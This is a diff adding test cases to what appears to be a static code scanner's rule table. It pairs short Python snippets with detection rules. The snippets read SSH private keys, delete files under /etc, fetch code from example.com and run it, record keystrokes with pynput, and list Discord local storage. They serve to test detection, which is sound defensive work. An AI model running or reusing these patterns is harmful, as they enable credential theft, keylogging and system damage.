@@ -56,6 +56,17 @@ static const struct { const char *name, *rule; int language; const char *code; }
 	{ "what is seen only later counts", "python/install-network", PY, "import requests\nrequests.get('https://example.com')\nfrom setuptools import setup\nsetup(name='x')\n" },
 	{ "a module keeps nothing", "!any/run-download", PY, "import shutil, requests, subprocess\nshutil.copyfileobj(requests.get('https://example.com').raw, f)\nsubprocess.run([shutil.which('git'), 'log'])\n" },
 	{ "a path divided by a text is a path", "any/secret-read", PY, "def f(home):\n    return (home / '.ssh' / 'id_rsa').read_text()\n" },
+	{ "a file found in a directory lies there", "any/system-write@3", PY, "from pathlib import Path\nfor p in Path('/lib/x').glob('a*'):\n    p.rename(p.with_suffix('.off'))\n" },
+	{ "an entry of a directory", "any/system-write@3", PY, "import os\nfor e in os.scandir('/etc/x'):\n    os.unlink(e.path)\n" },
+	{ "a list of what was found", "any/system-write@4", PY, "import os\nl = sorted(e.path for e in os.scandir('/etc/x') if e.name)\nfor p in l:\n    os.unlink(p)\n" },
+	{ "of the workspace it is nobody's business", "!any/system-write", PY, "from pathlib import Path\nfor p in Path('etc').glob('a*'):\n    p.unlink()\n" },
+	{ "a temporary file holds what its descriptor was given", "any/run-download", PY, "import os, subprocess, tempfile, urllib.request\nfd, p = tempfile.mkstemp()\nos.write(fd, urllib.request.urlopen('https://example.com').read())\nsubprocess.run([p])\n" },
+	{ "a function handed on with its arguments", "any/system-write@2", PY, "import os, threading\nthreading.Timer(5, os.remove, ['/etc/motd']).start()\n" },
+	{ "by keyword", "any/system-write@2", PY, "import os, threading\nthreading.Thread(target=os.remove, args=('/etc/motd',)).start()\n" },
+	{ "handed on with a file of its own", "!any/system-write", PY, "import os, threading\nthreading.Thread(target=os.remove, args=('motd',)).start()\n" },
+	{ "what a listener hears reaches its function", "python/keys-recorded", PY, "from pynput import keyboard\ndef p(k):\n    f.write(str(k))\nkeyboard.Listener(on_press=p).start()\n" },
+	{ "a variable that names the home directory", "any/secret-read", PY, "import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')\n" },
+	{ "the directory of a file is not the file", "!python/own-text", PY, "import os\nopen(os.path.join(os.path.dirname(__file__), 'a'))\n" },
 	{ "a path with backslashes", "any/browser-data", PY, "import os\nos.listdir(os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb')\n" },
 };
 
